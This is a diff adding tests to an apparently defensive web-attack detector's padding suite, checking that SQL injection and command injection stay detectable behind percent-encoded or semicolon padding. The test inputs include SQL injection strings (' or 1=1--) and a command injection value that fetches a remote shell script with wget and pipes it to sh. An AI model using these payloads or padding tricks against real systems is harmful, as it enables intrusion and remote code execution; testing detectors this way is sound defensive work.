@@ -174,6 +174,22 @@ describe('padding', () => {
     expect(detected(detector, query, path)).toBe(true);
   });
 
+  it('finds sqli behind percent-encoded padding on both sides', () => {
+    const encoded = '%2541'.repeat(820);
+
+    expect(detected('sqli', `q=${encoded}'%20or%201=1--%20${encoded}`)).toBe(true);
+  });
+
+  it('finds a command behind 64 empty commands', () => {
+    expect(detected('cmdi', `host=${'a;'.repeat(64)}wget%20http://203.0.113.5/x.sh|sh`)).toBe(true);
+  });
+
+  it.each([';'.repeat(64), 'a=1;'.repeat(64)])('finds sqli in a cookie behind padding pairs', (pairs) => {
+    const event = eventFromFields({ 'http.request.method': 'GET', 'url.path': '/', 'http.request.header.cookie': `${pairs}s=' or 1=1-- `, 'client.address': '192.0.2.10' }, Date.UTC(2024, 0, 1));
+
+    expect(DETECTORS.get('sqli')?.detect(new EventView(event))).toBeDefined();
+  });
+
   it('finds a scanner name at the end of a padded user agent', () => {
     const event = eventFromFields({ 'http.request.method': 'GET', 'url.path': '/', 'user_agent.original': `Mozilla/5.0 ${padding} sqlmap/1.7`, 'client.address': '192.0.2.10' }, Date.UTC(2024, 0, 1));
 
